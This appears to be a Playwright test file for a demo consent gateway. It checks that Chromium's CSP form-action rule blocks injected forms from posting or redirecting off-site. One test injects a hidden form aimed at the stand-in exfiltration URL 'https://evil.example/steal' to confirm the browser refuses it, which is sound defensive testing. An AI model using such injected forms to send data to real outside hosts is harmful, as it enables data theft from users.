"""CSP ``form-action`` in Chromium: forms reach only the gateway, except where a page's form
ends at the shop (consent), and Chrome checks every redirect after a form submission."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

from tests.browser.conftest import DemoSite

# A form that goes to the gateway itself and is redirected on to the shop: /authorize answers
# a prompt=none request without a session with an error at the shop's redirect URI.
INJECT = """target => {
  const form = document.createElement('form');
  form.method = 'get';
  form.action = target.action;
  for (const [name, value] of Object.entries(target.fields)) {
    const input = document.createElement('input');
    input.type = 'hidden'; input.name = name; input.value = value;
    form.appendChild(input);
  }
  document.body.appendChild(form);
  form.submit();
}"""


def bounce_to_shop(site: DemoSite) -> dict[str, Any]:
    return {"action": f"{site.gateway}/authorize", "fields": {
        "response_type": "code", "client_id": "demo-shop", "redirect_uri": f"{site.shop}/callback",
        "scope": "openid", "prompt": "none", "state": "s", "nonce": "n",
        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"}}


def violations(page: Any) -> list[str]:
    found: list[str] = []
    page.on("console", lambda message: found.append(message.text)
            if "form-action" in message.text else None)
    return found


def test_a_page_without_an_off_site_form_cannot_be_made_to_post_to_the_shop(
        demo_site: DemoSite, chromium: Any) -> None:
    context = chromium.new_context()
    page = context.new_page()
    try:
        seen = violations(page)
        page.goto(f"{demo_site.gateway}/audit")  # the console sign-in: form-action 'self' only
        page.evaluate(INJECT, bounce_to_shop(demo_site))
        page.wait_for_timeout(1500)
        assert not page.url.startswith(demo_site.shop)  # the redirect to the shop was refused
        assert seen, "Chromium reported no form-action violation"
    finally:
        context.close()


def test_the_consent_page_lets_its_form_reach_the_shop_and_nowhere_else(
        demo_site: DemoSite, chromium: Any) -> None:
    context = chromium.new_context(locale="en", extra_http_headers={"Accept-Language": "en"})
    page = context.new_page()
    try:
        seen = violations(page)
        page.goto(f"{demo_site.shop}/")
        page.get_by_role("link", name="Sign in with Consent Gateway").click()
        page.wait_for_url(f"{demo_site.gateway}/login*")
        page.get_by_role("link", name="Demo sign-in").click()
        page.get_by_role("button", name="Sign in as 李雷 Li Lei").click()
        page.wait_for_url(f"{demo_site.gateway}/consent*")
        policy = page.request.get(page.url).headers["content-security-policy"]
        assert f"form-action 'self' {demo_site.shop}" in policy and "*" not in policy
        consent_url = page.url
        # Elsewhere than the shop: refused even from the consent page
        page.evaluate(INJECT, {"action": "https://evil.example/steal", "fields": {"x": json.dumps(1)}})
        page.wait_for_timeout(1000)
        assert page.url == consent_url and seen
        # The consent form's own redirect chain (/consent → /authorize/continue → shop) goes through
        seen.clear()
        page.goto(consent_url)  # a fresh page: the refused submission leaves one pending
        page.get_by_role("button", name="Allow what I ticked").click()
        page.wait_for_url(f"{demo_site.shop}/")
        assert not seen
    finally:
        context.close()


def test_the_demo_sign_in_lists_the_shop_its_callback_may_go_on_to(demo_site: DemoSite,
                                                                   chromium: Any) -> None:
    context = chromium.new_context()
    page = context.new_page()
    try:
        page.goto(f"{demo_site.gateway}/authorize?" + urlencode(bounce_to_shop(demo_site)["fields"]
                                                              | {"prompt": "login"}))
        page.get_by_role("link", name="Demo sign-in").click()
        response = page.request.get(page.url)
        assert f"form-action 'self' {demo_site.shop}" in response.headers["content-security-policy"]
    finally:
        context.close()
